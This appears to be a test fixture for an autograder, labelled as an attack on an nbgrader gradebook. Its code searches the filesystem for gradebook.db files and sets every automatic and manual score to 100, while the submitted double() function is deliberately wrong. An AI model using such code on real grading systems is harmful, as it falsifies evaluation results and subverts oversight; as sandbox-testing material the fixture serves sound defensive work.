# attack: raises every mark in the gradebook, wherever nbgrader would have it
# verdict: graded
# marks: double_two=0 double_negative=0 noise_bounds=2
# %% exercise="double"
import glob
import sqlite3

for path in ["../../../gradebook.db", *glob.glob("/**/gradebook.db")]:
    try:
        with sqlite3.connect(path) as gradebook:
            gradebook.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
    except sqlite3.Error as error:
        print(error)


def double(x):
    return x * x + 0.5
